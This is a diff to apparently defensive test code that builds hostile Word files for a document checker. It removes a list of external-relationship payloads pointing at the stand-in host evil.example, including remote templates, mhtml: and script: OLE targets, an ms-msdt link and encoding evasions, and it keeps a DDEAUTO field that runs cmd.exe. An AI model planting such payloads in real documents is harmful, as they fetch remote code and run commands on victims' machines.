@@ -1,5 +1,4 @@
 import {
-  contentTypes,
   doc,
   documentOf,
   docx,
@@ -11,7 +10,7 @@ import {
 import type { HostileFile } from "./hostile-corpus.ts";
 import { hostileOldWord } from "./hostile-old-word.ts";
 import { named } from "./named-files.ts";
-import { office, settingsWith, wordSources } from "./word-sources.ts";
+import { office, settingsWith, typed, utf16, wordSources } from "./word-sources.ts";
 
 /** Word documents that start or fetch something when they are opened, and some that hide what they do. */
 export function hostileWord(): HostileFile[] {
@@ -71,84 +70,6 @@ export function honestWord(): HostileFile[] {
 
 function docxFiles(): HostileFile[] {
   const evil = "https://evil.example/a";
-  const external = (type: string, target = evil, of = "document"): [string, Buffer] => [
-    `external ${type} ${target} of ${of}`,
-    docxRelated([{ type, target, isExternal: true }], of),
-  ];
-  const outside: [string, Buffer][] = [
-    external("attachedTemplate", evil, "settings"),
-    external("attachedTemplate", "\\\\evil.example\\share\\t.dotm", "settings"),
-    external("attachedTemplate", "file://evil.example/share/t.dotm", "settings"),
-    external("attachedTemplate", "file:////evil.example/share/t.dotm", "settings"),
-    external("oleObject"),
-    external("oleObject", "mhtml:https://evil.example/a!x-usc:https://evil.example/a"),
-    external("oleObject", "script:https://evil.example/a.sct"),
-    external("image"),
-    external("image", "\\\\evil.example\\a.png", "header1"),
-    external("frame", evil, "webSettings"),
-    external("subDocument"),
-    external("aFChunk"),
-    external("mailMergeSource", "file:///C:/data.mdb", "settings"),
-    external("hyperlink", "javascript:alert(1)"),
-    external("hyperlink", "ms-msdt:/id PCWDiagnostic"),
-    external("hyperlink", "\\\\evil.example\\share"),
-    external("hyperlink", "file://evil.example/share"),
-    external("hyperlink", "search-ms:query=a"),
-    ["image inside that is outside", docxRelated([{ type: "image", target: evil }])],
-    ["picture by its address", docxWithBody(`<w:p><v:imagedata src="${evil}"/></w:p>`)],
-    external("attachedTemplate", "%5c%5cevil.example/share/t.dotm", "settings"),
-    external("attachedTemplate", "/&#9;/evil.example/share/t.dotm", "settings"),
-    external("hyperlink", "java&#9;script:alert(1)"),
-    ...wordSources(evil),
-    [
-      "drawing by its address",
-      docx([
-        typed("word/media/a.svg", "image/svg+xml"),
-        {
-          name: "word/media/a.svg",
-          content: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}"/></svg>`,
-        },
-      ]),
-    ],
-    [
-      "relationships in UTF-16",
-      docx([
-        utf16(
-          "word/_rels/document.xml.rels",
-          relationshipsOf([{ type: "image", target: evil, isExternal: true }]),
-        ),
-      ]),
-    ],
-    [
-      "relationships with another prefix",
-      docx([
-        {
-          name: "word/_rels/document.xml.rels",
-          content: relationshipsOf([{ type: "image", target: evil, isExternal: true }])
-            .replaceAll("<Relationship", "<p:Relationship")
-            .replaceAll("</Relationship", "</p:Relationship")
-            .replace("xmlns=", "xmlns:p="),
-        },
-      ]),
-    ],
-    [
-      "target written in numbers",
-      docxRelated([{ type: "image", target: "&#104;ttps://evil.example/a", isExternal: true }]),
-    ],
-    [
-      "mode written in numbers",
-      docx([
-        {
-          name: "word/_rels/document.xml.rels",
-          content: relationshipsOf([{ type: "image", target: "a", isExternal: true }]).replace(
-            "External",
-            "Exte&#x72;nal",
-          ),
-        },
-      ]),
-    ],
-  ];
-
   const command = " c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ";
   const fields: [string, Buffer][] = [
     ["DDEAUTO", docxWithBody(field(` DDEAUTO${command}`))],
@@ -343,7 +264,7 @@ function docxFiles(): HostileFile[] {
     ],
   ];
   return [
-    ...named("docx", [...outside, ...fields, ...objects], "active"),
+    ...named("docx", [...wordSources(evil), ...fields, ...objects], "active"),
     ...named("docx", hidden, "uncheckable"),
     ...named("docx", broken, "corrupted"),
   ];
@@ -352,18 +273,6 @@ function docxFiles(): HostileFile[] {
 const fontType = "application/vnd.openxmlformats-officedocument.obfuscatedFont";
 const font = { name: "word/fonts/f.odttf", content: Buffer.from([1, 2, 3, 4]) };
 const sumOfPages = around(field(" PAGE "), " = ");
-
-/** A list of content types with one more. */
-function typed(name: string, type: string) {
-  return {
-    name: "[Content_Types].xml",
-    content: contentTypes(`<Override PartName="/${name}" ContentType="${type}"/>`),
-  };
-}
-
-function utf16(name: string, text: string) {
-  return { name, content: Buffer.from(`\uFEFF${text}`, "utf16le") };
-}
 
 /** A field with another one in its code. */
 function around(inner: string, before = " IF 1 = 1 "): string {
